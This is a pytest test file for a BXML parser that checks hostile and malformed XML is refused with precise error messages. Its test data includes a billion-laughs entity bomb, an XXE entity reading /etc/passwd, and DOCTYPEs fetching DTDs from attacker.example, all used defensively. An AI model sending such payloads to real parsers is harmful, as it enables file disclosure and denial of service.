"""The XML reader refuses hostile or broken input fast, saying what is wrong and where."""

from __future__ import annotations

import pytest

from switchboard.bxml import BxmlError, parse_bxml
from switchboard.bxml.xmltree import MAX_DEPTH, MAX_DOCUMENT_BYTES
from switchboard.errors import ValidationError

BILLION_LAUGHS = """<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<Response><SpeakSentence>&lol9;</SpeakSentence></Response>"""


def error_of(data: bytes | str) -> BxmlError:
    with pytest.raises(BxmlError) as caught:
        parse_bxml(data)
    return caught.value


def test_billion_laughs_is_refused_at_the_doctype_before_any_entity_expands() -> None:
    error = error_of(BILLION_LAUGHS)
    assert "DOCTYPE declarations are not allowed" in error.message
    assert (error.line, error.column) == (2, 1)


@pytest.mark.parametrize(
    "doctype",
    [
        '<!DOCTYPE r [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>',
        '<!DOCTYPE r SYSTEM "http://attacker.example/evil.dtd">',
        '<!DOCTYPE r [<!ENTITY % p SYSTEM "http://attacker.example/p.dtd"> %p;]>',
        "<!DOCTYPE Response>",
    ],
    ids=["external-entity", "external-dtd", "parameter-entity", "bare-doctype"],
)
def test_any_doctype_is_refused(doctype: str) -> None:
    error = error_of(f"{doctype}\n<Response><SpeakSentence>&xxe;</SpeakSentence></Response>")
    assert "DOCTYPE" in error.message
    assert (error.line, error.column) == (1, 1)


def test_an_undefined_entity_says_which_entities_exist() -> None:
    error = error_of("<Response>\n  <SpeakSentence>Tom &nbsp; Jerry</SpeakSentence>\n</Response>")
    assert str(error) == (
        "line 2, column 22: undefined entity: only &amp; &lt; &gt; &quot; &apos; and character "
        "references such as &#233; are allowed"
    )


def test_predefined_and_character_entities_are_text() -> None:
    document = parse_bxml("<Response><Tag>a &amp; b &#233; &#x41;</Tag></Response>")
    assert document.verbs[0].value == "a & b é A"  # type: ignore[union-attr]


def padded(size: int) -> bytes:
    shell = b"<Response><Hangup/></Response>"
    return shell + b" " * (size - len(shell))


def test_a_document_of_exactly_64_kb_is_accepted() -> None:
    assert len(parse_bxml(padded(MAX_DOCUMENT_BYTES)).verbs) == 1


def test_a_document_of_64_kb_plus_one_byte_is_refused_before_parsing() -> None:
    error = error_of(padded(MAX_DOCUMENT_BYTES + 1))
    assert error.message == (
        "the document is 65537 bytes; BXML documents are limited to 65536 bytes (64 KB)"
    )
    assert error.line is None
    assert str(error) == error.message


def test_the_size_of_a_str_document_is_counted_in_utf8_bytes() -> None:
    text = "<Response><Tag>" + "é" * 33_000 + "</Tag></Response>"  # 66,000 bytes, 33k chars
    assert "bytes" in error_of(text).message


def test_deep_nesting_is_refused_at_the_element_that_goes_too_deep() -> None:
    depth = MAX_DEPTH + 5
    ssml = "<s>" * (depth - 2) + "x" + "</s>" * (depth - 2)
    error = error_of(f"<Response><SpeakSentence>{ssml}</SpeakSentence></Response>")
    assert f"nested more than {MAX_DEPTH} deep" in error.message
    assert error.line == 1


def test_binary_data_is_refused_as_binary() -> None:
    error = error_of(b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR")
    assert "binary" in error.message


def test_utf16_is_refused_with_or_without_a_byte_order_mark() -> None:
    text = "<Response><Hangup/></Response>"
    assert "UTF-16" in error_of(text.encode("utf-16")).message
    assert "NUL bytes" in error_of(text.encode("utf-16-le")).message


def test_latin1_bytes_in_a_utf8_document_are_reported_where_they_are() -> None:
    error = error_of(
        "<Response>\n  <SpeakSentence>café</SpeakSentence>\n</Response>".encode("latin-1")
    )
    assert str(error) == (
        "line 2, column 21: byte 0xe9 is not valid UTF-8: the document is not UTF-8 text "
        "(declared with the wrong encoding, or binary data)"
    )


def test_a_declared_latin1_document_is_read_as_latin1() -> None:
    data = '<?xml version="1.0" encoding="ISO-8859-1"?><Response><Tag>café</Tag></Response>'
    document = parse_bxml(data.encode("latin-1"))
    assert document.verbs[0].value == "café"  # type: ignore[union-attr]


def test_an_encoding_expat_would_have_to_guess_is_refused() -> None:
    error = error_of(b'<?xml version="1.0" encoding="windows-1252"?><Response/>')
    assert "encoding 'windows-1252'; BXML must be UTF-8" in error.message
    assert (error.line, error.column) == (1, 31)


def test_control_characters_are_refused_with_their_position() -> None:
    error = error_of("<Response>\n<Tag>a\x07b</Tag></Response>")
    assert str(error) == (
        "line 2, column 7: control character U+0007 is not allowed in XML (is this binary data?)"
    )


def test_a_utf8_byte_order_mark_and_an_xml_declaration_are_fine() -> None:
    data = b"\xef\xbb\xbf<?xml version='1.0' encoding='UTF-8'?>\n<Response><Hangup/></Response>"
    assert len(parse_bxml(data).verbs) == 1


@pytest.mark.parametrize("data", [b"", "", "   \n  "])
def test_an_empty_document_is_refused(data: bytes | str) -> None:
    assert error_of(data).message == "the document is empty; a BXML document needs a root element"


@pytest.mark.parametrize(
    ("data", "expected"),
    [
        (
            "<Response>\n  <Gather>\n  </Response>",
            "line 3, column 5: mismatched tag: expected </Gather>",
        ),
        (
            "<Response>\n  <Hangup/>",
            "line 2, column 12: the document ended before </Response> closed it",
        ),
        (
            "<Response/>\n<Response/>",
            "line 2, column 1: content after the root element: "
            "a BXML document has exactly one root",
        ),
        ('<Response a="1" a="2"/>', "line 1, column 17: malformed XML: duplicate attribute"),
        ("just text", "line 1, column 1: malformed XML: syntax error"),
    ],
)
def test_malformed_xml_is_explained_with_its_position(data: str, expected: str) -> None:
    assert str(error_of(data)) == expected


def test_comments_and_processing_instructions_are_ignored() -> None:
    data = "<?xml-stylesheet href='x'?><Response><!-- a comment --><Hangup/><?pi x?></Response>"
    assert len(parse_bxml(data).verbs) == 1


def test_an_unpaired_surrogate_in_a_str_is_refused() -> None:
    assert "surrogate" in error_of("<Response><Tag>\ud800</Tag></Response>").message


def test_a_bxml_error_is_a_400_validation_error() -> None:
    error = error_of("<Response>")
    assert isinstance(error, ValidationError)
    assert (error.status, error.type) == (400, "validation")
    assert error.description == str(error)
